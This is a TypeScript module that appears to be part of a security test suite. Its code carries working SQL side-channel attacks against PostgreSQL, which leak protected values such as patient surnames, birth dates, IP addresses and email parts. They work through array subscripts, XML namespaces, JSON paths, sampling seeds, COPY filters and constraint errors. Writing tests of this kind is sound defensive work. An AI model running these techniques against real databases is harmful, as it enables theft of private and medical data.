/**
 * Expressions where hardly anybody writes one (subscripts of what is assigned, namespaces, seeds, rows beside queries), and
 * what overlaps what.
 */
import type { Attack, Attacker } from '../attack.ts';
import type { Reply } from '../wire.ts';

const CODE = (at: number) => `(SELECT ascii(substr(nachname, ${at}, 1)) FROM patienten WHERE id = 3)`;
const LENGTH = 11;

/** A code at a time, each told by the whole answer to one text. */
const letters =
  (sql: (code: string) => readonly string[], read: (reply: Reply, ask: (sql: string) => Promise<Reply>) => unknown) =>
  async (attacker: Attacker) => {
    const wire = await attacker.connect();
    const ask = (text: string) => wire.query(text);
    let known = '';
    for (let at = 1; at <= LENGTH; at++) {
      let reply: Reply | undefined;
      for (const text of sql(CODE(at))) reply = await wire.query(text);
      known += String.fromCharCode(Number(await read(reply!, ask)));
    }
    attacker.found.push(known);
  };
const firstCell = ({ rows }: Reply) => rows[0]?.[0];

export const positions: readonly Attack[] = [
  {
    id: 'position.row-beside-query',
    run: letters((code) => [`SELECT g FROM generate_series(65, 122) g WHERE (1, g) = (SELECT 1, ${code})`], firstCell),
  },
  {
    id: 'position.row-below-query',
    run: letters(
      (code) => [`SELECT min(g) - 1 FROM generate_series(65, 123) g WHERE (1, g) > (SELECT 1, ${code})`],
      firstCell,
    ),
  },
  {
    id: 'position.namespace',
    run: letters(
      (code) => [
        `SELECT x.i FROM XMLTABLE(XMLNAMESPACES(('urn:' || ${code}) AS n), '/r/n:a' PASSING (SELECT ('<r>' || string_agg(format('<a xmlns="urn:%s"><b xmlns="">%s</b></a>', g, g), '') || '</r>')::xml FROM generate_series(65, 122) g) COLUMNS i int PATH 'b') x`,
      ],
      firstCell,
    ),
  },
  {
    id: 'position.assigned-element',
    writes: true,
    run: letters(
      (code) => [
        `UPDATE artikel SET schlagworte = '{}' WHERE id = 1`,
        `UPDATE artikel SET schlagworte[${code}] = 'x' WHERE id = 1`,
        'SELECT array_upper(schlagworte, 1) FROM artikel WHERE id = 1',
      ],
      firstCell,
    ),
  },
  {
    id: 'position.assigned-slice',
    writes: true,
    run: letters(
      (code) => [
        `UPDATE artikel SET schlagworte = '{}' WHERE id = 1`,
        `UPDATE artikel SET schlagworte[${code}:${code}] = '{x}' WHERE id = 1`,
        'SELECT array_upper(schlagworte, 1) FROM artikel WHERE id = 1',
      ],
      firstCell,
    ),
  },
  {
    id: 'position.inserted-element',
    writes: true,
    run: letters(
      (code) => [
        'DELETE FROM artikel WHERE id = 777',
        `INSERT INTO artikel (id, bezeichnung, schlagworte[${code}]) VALUES (777, 'b', 'c')`,
        'SELECT array_upper(schlagworte, 1) FROM artikel WHERE id = 777',
      ],
      firstCell,
    ),
  },
  {
    id: 'position.merged-element',
    writes: true,
    run: letters(
      (code) => [
        'DELETE FROM artikel WHERE id = 777',
        `MERGE INTO artikel a USING (VALUES (777)) v (n) ON a.id = v.n WHEN NOT MATCHED THEN INSERT (id, bezeichnung, schlagworte[${code}]) VALUES (777, 'b', 'c')`,
        'SELECT array_upper(schlagworte, 1) FROM artikel WHERE id = 777',
      ],
      firstCell,
    ),
  },
  {
    id: 'position.assigned-key',
    writes: true,
    sql: [
      `UPDATE artikel SET masse[nachname] = '1' FROM patienten p WHERE p.id = artikel.id AND artikel.id <= 3`,
      'SELECT k FROM artikel, jsonb_object_keys(masse) k WHERE id <= 3',
    ],
  },
  {
    id: 'position.conflict-key',
    writes: true,
    sql: [
      `INSERT INTO artikel (id, bezeichnung) VALUES (1, 'b') ON CONFLICT (id) DO UPDATE SET masse[(SELECT nachname FROM patienten WHERE id = 3)] = '1'`,
      'SELECT k FROM artikel, jsonb_object_keys(masse) k WHERE id = 1',
    ],
  },
  {
    id: 'position.copy-where',
    writes: true,
    run: async (attacker) => {
      const wire = await attacker.connect();
      await wire.query('CREATE TABLE atk_cw (i int)');
      await attacker.bisect(12, async (at, code) => {
        const sql = `COPY atk_cw FROM STDIN WHERE ascii(substr(split_part(zeige_mail(i), '.', 2), ${at}, 1)) > ${code}`;
        return (await wire.query(sql, Buffer.from('3\n'))).tags[0] === 'COPY 1';
      });
    },
  },
  {
    id: 'position.excluded',
    writes: true,
    run: async (attacker) => {
      const wire = await attacker.connect();
      const isTaken = async (network: string) => {
        await wire.query('BEGIN');
        const { tags } = await wire.query(
          `INSERT INTO rejestr.adresy VALUES (999, '${network}') ON CONFLICT DO NOTHING`,
        );
        await wire.query('ROLLBACK');
        return tags[0] === 'INSERT 0 0';
      };
      const found: string[] = [];
      const search = async (address: number, length: number): Promise<void> => {
        const dotted = [24, 16, 8, 0].map((shift) => (address >>> shift) & 255).join('.');
        if (found.length >= 2 || !(await isTaken(`${dotted}/${length}`))) return;
        if (length === 32) {
          found.push(dotted);
          return;
        }
        await search(address, length + 1);
        await search((address | (1 << (31 - length))) >>> 0, length + 1);
      };
      await search(0, 0);
      attacker.found.push(found.join(' '));
    },
  },
  ...(['UNIQUE', 'PRIMARY KEY'] as const).map(
    (key): Attack => ({
      id: `position.overlaps-${key.slice(0, 3).toLowerCase()}`,
      since: 18,
      writes: true,
      run: async (attacker) => {
        const wire = await attacker.connect();
        const found: string[] = [];
        for (const row of [3, 4]) {
          await wire.query(
            `CREATE TABLE atk_ov AS SELECT int4range(1, 2) AS id, naissance FROM rejestr.abonnes WHERE numero = ${row}`,
          );
          await wire.query(`ALTER TABLE atk_ov ADD ${key} (id, naissance WITHOUT OVERLAPS)`);
          const day = (n: number) => new Date(Date.UTC(1940, 0, 1 + n)).toISOString().slice(0, 10);
          let [low, high] = [0, 30_000];
          while (low < high) {
            const middle = (low + high) >> 1;
            await wire.query('BEGIN');
            const { errors } = await wire.query(`INSERT INTO atk_ov VALUES ('[1,2)', '[${day(0)},${day(middle)}]')`);
            await wire.query('ROLLBACK');
            if (errors.length > 0) high = middle;
            else low = middle + 1;
          }
          found.push(day(low));
          await wire.query('DROP TABLE atk_ov');
        }
        attacker.found.push(found.join(' '));
      },
    }),
  ),
  {
    id: 'position.seed',
    infers: true,
    run: async (attacker) => {
      const wire = await attacker.connect();
      const sample = async (seed: string) => {
        const { rows } = await wire.query(`SELECT id FROM artikel TABLESAMPLE BERNOULLI (50) REPEATABLE (${seed})`);
        return rows.length > 0 ? rows.join(' ') : undefined;
      };
      const codes = new Map<string | undefined, number>();
      for (let code = 65; code <= 122; code++) codes.set(await sample(String(code)), code);
      let known = '';
      for (let at = 1; at <= LENGTH; at++) known += String.fromCharCode(codes.get(await sample(CODE(at))) ?? 0);
      attacker.found.push(known);
    },
  },
  ...(['JSON_VALUE', 'JSON_QUERY'] as const).map(
    (name): Attack => ({
      id: `position.path-of-${name.toLowerCase().replace('_', '-')}`,
      since: 17,
      run: letters(
        (code) => [
          `SELECT ${name}((SELECT jsonb_object_agg(g, g) FROM generate_series(65, 122) g), ('$."' || ${code} || '"')::jsonpath)`,
        ],
        firstCell,
      ),
    }),
  ),
  {
    id: 'position.path-of-json-exists',
    since: 17,
    run: letters(
      (code) => [
        `SELECT g FROM generate_series(65, 122) g WHERE JSON_EXISTS(jsonb_build_object(g, g), ('$."' || ${code} || '"')::jsonpath)`,
      ],
      firstCell,
    ),
  },
];
